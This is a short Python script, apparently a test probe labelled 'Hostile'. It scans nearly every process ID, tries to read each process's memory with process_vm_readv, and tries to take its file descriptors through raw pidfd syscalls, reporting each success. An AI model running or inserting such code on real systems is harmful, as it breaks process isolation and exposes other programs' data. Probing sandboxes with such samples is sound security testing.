"""Hostile: reads the memory of every process, and takes its files."""

import ctypes
import os


OPEN, TAKE, BAD_ADDRESS = 434, 438, 14


def print_succ(state):
    library = ctypes.CDLL(None, use_errno=True)
    here = ctypes.create_string_buffer(8)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(here), 8)
    remote = (ctypes.c_void_p * 2)(id(None), 8)
    for number in range(1, 1 << 16):
        if number == os.getpid():
            continue
        read = library.process_vm_readv(number, local, 1, remote, 1, 0)
        if read >= 0 or ctypes.get_errno() == BAD_ADDRESS:
            print("done: read", number)
        process = library.syscall(OPEN, number, 0)
        if process >= 0:
            if library.syscall(TAKE, process, 0, 0) >= 0:
                print("done: took a file of", number)
            os.close(process)
